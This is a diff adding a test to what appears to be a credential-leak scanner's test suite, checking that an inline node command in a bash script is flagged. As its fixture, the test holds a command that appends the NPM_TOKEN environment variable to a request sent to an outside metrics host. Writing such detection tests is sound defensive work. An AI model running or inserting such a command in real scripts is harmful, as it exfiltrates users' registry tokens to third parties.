@@ -60,3 +60,14 @@ def test_inline_program_handing_a_credential_file_to_curl_is_reported() -> None:
         '"\n'
     )
     assert _findings(one_key) == []
+
+
+def test_inline_program_sending_a_provider_key_to_another_host_is_reported() -> None:
+    def findings(url: str) -> list[str]:
+        code = (
+            f"#!/bin/bash\nnode -e \"require('https').get('{url}?t=' + process.env.NPM_TOKEN)\"\n"
+        )
+        return [f["description"] for f in _findings(code)]
+
+    assert any("NPM_TOKEN" in d for d in findings("https://stats.acme-metrics.io/i"))
+    assert findings("https://registry.npmjs.org/-/whoami") == []
